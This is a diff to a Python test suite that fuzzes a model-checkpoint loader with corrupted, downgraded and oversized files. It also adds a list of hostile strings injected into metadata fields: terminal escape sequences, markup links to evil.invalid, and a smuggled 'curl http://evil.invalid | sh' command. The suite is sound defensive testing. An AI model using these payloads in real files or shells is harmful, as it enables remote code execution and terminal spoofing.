@@ -17,7 +17,9 @@ from __future__ import annotations
 import io
 import itertools
 import json
+import os
 import random
+import re
 import struct
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -26,18 +28,26 @@ from typing import Any, NamedTuple
 import pytest
 import safetensors.torch
 import torch
+from conftest import tiny
+from test_checkpoint import (
+    edit_config,
+    edit_metadata,
+    edit_tensors,
+    join_file,
+    split_file,
+)
 
 import zoo
-from conftest import tiny
-from test_checkpoint import edit_config, edit_metadata, edit_tensors, join_file, split_file
 from zoo import CheckpointError
 from zoo.checkpoint import FORMAT, inspect
+from zoo.cli import main
 
 
 class Variant(NamedTuple):
     label: str
     raw: bytes
     digest_only: bool  # True: only the digest can tell (run with verify=True)
+    lenient_too: bool = False  # True: load(strict=False) must refuse it as well
 
 
 Family = Callable[[bytes, bool], Iterator[Variant]]  # (checkpoint bytes, slow) -> variants
@@ -223,6 +233,41 @@ def header_json_edits(raw: bytes, slow: bool) -> Iterator[Variant]:
     yield Variant("header followed by garbage", struct.pack("<Q", len(text)) + text + data, False)
 
 
+def huge_configs(raw: bytes, slow: bool) -> Iterator[Variant]:
+    """Legal configs far larger than the (few or no) tensors the file holds: even
+    ``strict=False`` must refuse them before allocating (issue 9, item 5)."""
+    config = json.loads(split_file(raw)[0]["__metadata__"]["zoo.config"])
+    sizes = [dict(d_model=2048, n_layers=10, n_heads=16), dict(d_model=1024, n_layers=60, n_heads=16),
+             dict(vocab_size=1_000_000, d_model=256, n_heads=4), dict(d_model=1024, n_layers=24, n_heads=16, d_ff=8192)]  # fmt: skip
+    for size in sizes:
+        sized = edit_config(raw, **size, max_seq_len=config["max_seq_len"])
+        yield Variant(f"config {size}, no tensors", edit_tensors(sized, lambda t: t.clear()), False, True)
+        keep_one = edit_tensors(sized, lambda t: [t.pop(n) for n in sorted(t)[1:]])
+        yield Variant(f"config {size}, one tensor", keep_one, False, True)
+
+
+def mixed_dtypes(raw: bytes, slow: bool) -> Iterator[Variant]:
+    """Signed files whose float tensors disagree on dtype, or are float8 (item 6)."""
+    names = sorted(safetensors.torch.load(raw))
+    for name in names[:: 1 if slow else 4]:
+        for dtype in (torch.bfloat16, torch.float16, torch.float64, torch.float8_e4m3fn, torch.float8_e5m2):
+            yield Variant(f"{name} as {dtype}, signed", edit_tensors(raw, replacing(name, lambda t, d=dtype: t.to(d))), False)
+    for dtype in (torch.float8_e4m3fn, torch.float8_e5m2):
+        every = edit_tensors(raw, lambda t, d=dtype: t.update({k: v.to(d) for k, v in t.items()}))
+        yield Variant(f"every tensor {dtype}", every, False)
+
+
+def format_downgrades(raw: bytes, slow: bool) -> Iterator[Variant]:
+    """A current file marked as an older format with its digest removed, so a migration
+    would skip verification: never loads verified (item 7)."""
+    names = sorted(safetensors.torch.load(raw))
+    for name in names[:: 1 if slow else 3]:
+        changed = edit_tensors(raw, replacing(name, lambda t: t + 0.5), signed=False)
+        yield Variant(f"{name} changed, format 0, no digest", edit_metadata(changed, signed=False, zoo_format="0", zoo_digest=None), False)
+    for value in ("0", "00", "-0"):
+        yield Variant(f"format {value!r}, no digest", edit_metadata(raw, signed=False, zoo_format=value, zoo_digest=None), False)
+
+
 def foreign_files(raw: bytes, slow: bool) -> Iterator[Variant]:
     rng = random.Random(0)
     yield Variant("empty file", b"", False)
@@ -239,6 +284,7 @@ def foreign_files(raw: bytes, slow: bool) -> Iterator[Variant]:
 FAMILIES: list[Family] = [
     truncations, header_flips, data_flips, length_lies, trailing_bytes,
     metadata_edits, config_edits, tensor_edits, header_json_edits, foreign_files,
+    huge_configs, mixed_dtypes, format_downgrades,
 ]  # fmt: skip
 
 
@@ -262,17 +308,21 @@ def refusals(variants: Iterator[Variant], folder: Path) -> tuple[int, list[str]]
         count += 1
         path = folder / f"variant-{index}.safetensors"
         path.write_bytes(variant.raw)
-        calls = [(zoo.load, True), (inspect, True)] + ([] if variant.digest_only else [(zoo.load, False)])
-        for call, verify in calls:
+        calls: list[tuple[Callable[..., Any], dict[str, Any]]] = [(zoo.load, {"verify": True}), (inspect, {"verify": True})]
+        if not variant.digest_only:
+            calls.append((zoo.load, {"verify": False}))
+        if variant.lenient_too:
+            calls += [(zoo.load, {"verify": True, "strict": False}), (zoo.load, {"verify": False, "strict": False})]
+        for call, options in calls:
             try:
-                call(path, verify=verify)
+                call(path, **options)
             except CheckpointError as err:
                 if str(path) not in str(err):
                     failures.append(f"{variant.label} ({call.__name__}): message lacks the path: {err}")
             except Exception as err:  # the bug this suite hunts
-                failures.append(f"{variant.label} ({call.__name__}, verify={verify}): {type(err).__name__}: {err}")
+                failures.append(f"{variant.label} ({call.__name__}, {options}): {type(err).__name__}: {err}")
             else:
-                failures.append(f"{variant.label} ({call.__name__}, verify={verify}): no error")
+                failures.append(f"{variant.label} ({call.__name__}, {options}): no error")
         if variant.digest_only:  # unverified, it may load; but only a CheckpointError may escape
             try:
                 zoo.load(path, verify=False)
@@ -288,6 +338,7 @@ def refusals(variants: Iterator[Variant], folder: Path) -> tuple[int, list[str]]
 MINIMUM = {
     truncations: 80, header_flips: 120, data_flips: 60, length_lies: 14, trailing_bytes: 5,
     metadata_edits: 70, config_edits: 70, tensor_edits: 40, header_json_edits: 100, foreign_files: 7,
+    huge_configs: 8, mixed_dtypes: 20, format_downgrades: 5,
 }  # fmt: skip
 
 
@@ -325,3 +376,102 @@ def test_a_damaged_version_leaves_the_others_loadable(tmp_path: Path) -> None:
         zoo.load(run)
     assert torch.equal(zoo.load(run, version=1).tok_emb.weight, model.tok_emb.weight)
     assert [v.version for v in zoo.versions(run)] == [1, 2]  # headers are intact
+
+
+# -- directory-level damage and names -----------------------------------------------------
+
+
+@pytest.mark.parametrize("other", ["v1.safetensors", "v01.safetensors", "v00001.safetensors"])
+def test_two_files_claiming_one_version_are_refused_by_every_reader(other: str, tmp_path: Path) -> None:
+    run = tmp_path / "run"
+    zoo.save(tiny(), run)
+    (run / other).write_bytes((run / "v0001.safetensors").read_bytes())
+    readers = (lambda: zoo.load(run), lambda: zoo.load(run, version=1), lambda: zoo.versions(run), lambda: inspect(run))
+    for read in readers:
+        with pytest.raises(CheckpointError, match=f"two files for version 1: .*{re.escape(other)}|{re.escape(other)} .*v0001"):
+            read()
+
+
+@pytest.mark.parametrize("length", [256, 300, 1000, 5000])
+def test_names_too_long_for_the_filesystem_are_checkpoint_errors(length: int, tmp_path: Path) -> None:
+    for path in (tmp_path / ("x" * length + ".safetensors"), tmp_path / ("d" * length) / "v.safetensors", tmp_path / ("r" * length)):
+        for call in (zoo.load, lambda p: zoo.save(tiny(), p), inspect):
+            with pytest.raises(CheckpointError, match="bytes long"):
+                call(path)
+    with pytest.raises(CheckpointError, match="bytes long"):
+        zoo.versions(tmp_path / ("r" * length))
+
+
+# -- strings from the file: escape sequences and markup ------------------------------------
+
+HOSTILE = [
+    "\x1b[2J\x1b[31mred", "\x1b]8;;http://evil.invalid\x07click\x1b]8;;\x07", "bell\x07", "\x9b2Jcsi",
+    "[/bold]", "[link=http://evil.invalid]x[/link]", "[bold red]loud", "zoo-modern; curl http://evil.invalid | sh #",
+    "\u202eevil", "l" * 10_000,
+]  # fmt: skip
+CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+def hostile_strings(raw: bytes) -> Iterator[tuple[str, bytes]]:
+    """Every string field a file carries, set to each hostile payload, signed: some
+    load (user metadata may say anything), the rest are refused; none may reach a
+    message or the terminal raw."""
+    header, _ = split_file(raw)
+    meta = header["__metadata__"]
+    records = json.loads(meta["zoo.components"])
+    config = json.loads(meta["zoo.config"])
+    first = sorted(k for k in header if k != "__metadata__")[0]
+    for text in HOSTILE:
+        short = text[:20]
+        yield f"zoo.version {short!r}", edit_metadata(raw, zoo_version=text)
+        yield f"zoo.created {short!r}", edit_metadata(raw, zoo_created=text)
+        yield f"metadata value {short!r}", edit_metadata(raw, zoo_metadata=json.dumps({"note": text}))
+        yield f"metadata key {short!r}", edit_metadata(raw, zoo_metadata=json.dumps({text: 1}))
+        yield f"config position name {short!r}", edit_config(raw, position={"name": text})
+        yield f"config option {short!r}", edit_config(raw, position={**config["position"], text: 1})
+        yield f"ties {short!r}", edit_metadata(raw, zoo_ties=json.dumps({text: first}))
+        yield f"tensor name {short!r}", edit_tensors(raw, lambda t, n=text: t.update({n: t.pop(first)}))
+        for field in ("name", "plugin", "distribution", "version"):
+            record = {"name": "not-installed", "plugin": "p", "distribution": "zoo-lm-x", "version": "1", field: text}
+            components = json.dumps({**records, "position": record})
+            edited = edit_config(raw, position={"name": record["name"]})
+            yield f"component {field} {short!r}", edit_metadata(edited, zoo_components=components)
+
+
+@pytest.mark.parametrize("base", ["tied", "untied"])
+def test_hostile_strings_never_reach_a_message_or_the_terminal_raw(
+    base: str, bases: dict[str, bytes], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    failures, count = [], 0
+    for index, (label, raw) in enumerate(hostile_strings(bases[base])):
+        count += 1
+        path = tmp_path / f"hostile-{index}.safetensors"
+        path.write_bytes(raw)
+        for call in (zoo.load, lambda p: zoo.load(p, verify=False, strict=False), inspect):
+            try:
+                call(path)
+            except CheckpointError as err:
+                message = str(err)
+                if CONTROL.search(message) or len(message) > 4000 or "pip install zoo-modern;" in message:
+                    failures.append(f"{label}: message {message[:200]!r}")
+            except Exception as err:
+                failures.append(f"{label}: {type(err).__name__}: {str(err)[:200]}")
+        code = main(["inspect", str(path)])
+        out, err = capsys.readouterr()
+        if code not in (0, 1) or CONTROL.search(out + err) or "evil.invalid\x1b" in out:
+            failures.append(f"{label}: zoo inspect exit {code}: {(out + err)[:300]!r}")
+        if max((len(line) for line in (out + err).splitlines()), default=0) > 5000:
+            failures.append(f"{label}: zoo inspect printed a line of {max(map(len, (out + err).splitlines()))} characters")
+        path.unlink()
+    assert count >= 100
+    assert not failures, f"{len(failures)} of {count} variants:\n" + "\n".join(failures[:30])
+
+
+def test_the_hostile_markup_is_shown_as_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    path = zoo.save(tiny(), tmp_path / "m.safetensors", metadata={"note": "[link=http://evil.invalid]x[/link] [/bold]"})
+    assert main(["inspect", str(path)]) == 0
+    assert "[link=http://evil.invalid]x[/link] [/bold]" in capsys.readouterr().out
+
+
+def test_name_limit_is_the_filesystems(tmp_path: Path) -> None:
+    assert os.pathconf(tmp_path, "PC_NAME_MAX") >= 255
